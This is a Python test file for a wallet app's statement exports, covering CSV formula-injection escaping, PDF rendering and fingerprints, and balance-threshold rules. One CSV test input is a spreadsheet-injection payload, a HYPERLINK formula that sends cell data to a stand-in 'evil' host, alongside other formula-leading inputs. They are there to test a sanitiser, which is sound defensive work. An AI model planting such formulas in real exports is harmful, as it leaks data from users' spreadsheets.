"""The forms of a statement, and when a balance has crossed a rule's value."""

from datetime import UTC, datetime
from typing import Any

import pytest
from reportlab.pdfgen.canvas import Canvas

from functions.wallet.rules.rule import Rule
from functions.wallet.statement.forms import csv_form, fingerprint, harmless
from functions.wallet.statement.make_statement import Statement
from functions.wallet.statement.pdf import pdf_form


def _statement(*amounts: int, description: str | None = None, currency: str = "EUR") -> Statement:
    rows: list[dict[str, Any]] = []
    balance = 0
    for amount in amounts:
        balance += amount
        row = {"posted_at": "2026-03-01T09:30:00.000000Z", "transaction_id": "tx_1", "kind": "transfer"}
        rows.append(
            {**row, "description": description, "external_id": None, "amount": amount, "balance_after": balance}
        )
    begin, end = datetime(2026, 3, 1, tzinfo=UTC), datetime(2026, 4, 1, tzinfo=UTC)
    return Statement("wal_1", None, "usr_1", currency, begin, end, 0, balance, rows)


class TestStatement:
    def test_tells_what_came_and_what_went(self) -> None:
        statement = _statement(500, -200, 50)
        assert (statement.total(+1), statement.total(-1)) == (550, 200)


class TestCsv:
    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_takes_the_formula_out_of_a_text(self, start: str) -> None:
        assert harmless(f"{start}1+1") == f"'{start}1+1"
        assert harmless(f"a{start}1") == f"a{start}1"

    @pytest.mark.parametrize(
        ("text", "told"),
        [
            (" =1+1", "' =1+1"),
            ('"=1+1', "'\"=1+1"),
            ("\uff1d1+1", "'\uff1d1+1"),  # full-width
            ("\ufe641+1", "\ufe641+1"),  # small less-than begins nothing
            ("\u207a1", "'\u207a1"),  # superscript
            ("=\u03381", "'=\u03381"),  # with a stroke it is one letter to NFKC, but not to everybody
            ("\u3000-1", "'\u3000-1"),  # ideographic space
            ('x;=HYPERLINK("https://evil/?"&A2,"ok")', 'x;\'=HYPERLINK("https://evil/?"&A2,"ok")'),
            ('x;"=1+1;y', "x;'\"=1+1;y"),
            ("a;b;c", "a;b;c"),
            ("a;;@b|-c\t+d", "a;;'@b|'-c\t'+d"),
            ("a\n=1\r\n=2", "a\n'=1\r'\n'=2"),
            ("1 - 2 = 3, e@mail.example", "1 - 2 = 3, e@mail.example"),
            ("", ""),
            (None, ""),
        ],
    )
    def test_begins_no_formula_anywhere_and_stays_readable(self, text: str | None, told: str) -> None:
        assert harmless(text) == told

    @pytest.mark.parametrize(("currency", "amount"), [("EUR", "-2.00"), ("JPY", "-200"), ("KWD", "-0.200")])
    def test_leaves_a_negative_amount_a_number(self, currency: str, amount: str) -> None:
        line = csv_form(_statement(-200, currency=currency)).decode().split("\r\n")[2]
        assert line == f"2026-03-01T09:30:00.000000Z,tx_1,transfer,,,{amount},{amount},{currency}"

    def test_quotes_as_the_rfc_says(self) -> None:
        line = csv_form(_statement(1, description='say "x", please')).decode().split("\r\n")[2]
        assert ',"say ""x"", please",' in line


class TestPdf:
    def test_is_the_same_bytes_each_time_on_as_many_pages_as_it_needs(self) -> None:
        short, long = _statement(1), _statement(*[1] * 100)
        assert pdf_form(long, "Anna") == pdf_form(long, "Anna")
        assert [pdf_form(each, "Anna").count(b"/Type /Page\n") for each in (short, long)] == [1, 3]

    def test_shows_the_fingerprint_on_each_page(self, monkeypatch: pytest.MonkeyPatch) -> None:
        drawn: list[str] = []
        monkeypatch.setattr(Canvas, "drawString", lambda _, __, ___, text: drawn.append(text))
        statement = _statement(*[1] * 100)
        pdf_form(statement, "Anna")
        assert [text[-64:] for text in drawn if "SHA-256" in text] == [fingerprint(statement)] * 3

    @pytest.mark.parametrize("text", ["日本語", "مرحبا", "🎉", "x" * 500, ""])
    def test_draws_any_text(self, text: str) -> None:
        assert pdf_form(_statement(1, description=text), text).startswith(b"%PDF-")


class TestRule:
    @pytest.mark.parametrize(
        ("op", "balance", "before", "after"),
        [
            ("below", 1000, False, False),
            ("below", 999, False, True),
            ("below", 1000, True, True),
            ("below", 1009, True, True),
            ("below", 1010, True, False),
            ("above", 1000, False, False),
            ("above", 1001, False, True),
            ("above", 991, True, True),
            ("above", 990, True, False),
        ],
    )
    def test_is_crossed_beyond_its_value_until_the_balance_is_back_by_a_percent(
        self, op: str, balance: int, before: bool, after: bool
    ) -> None:
        assert Rule(op, 1000, before).crossed_at(balance) is after

    def test_without_a_margin_comes_back_at_its_value(self) -> None:
        assert Rule("below", 0, crossed=True).crossed_at(0) is False
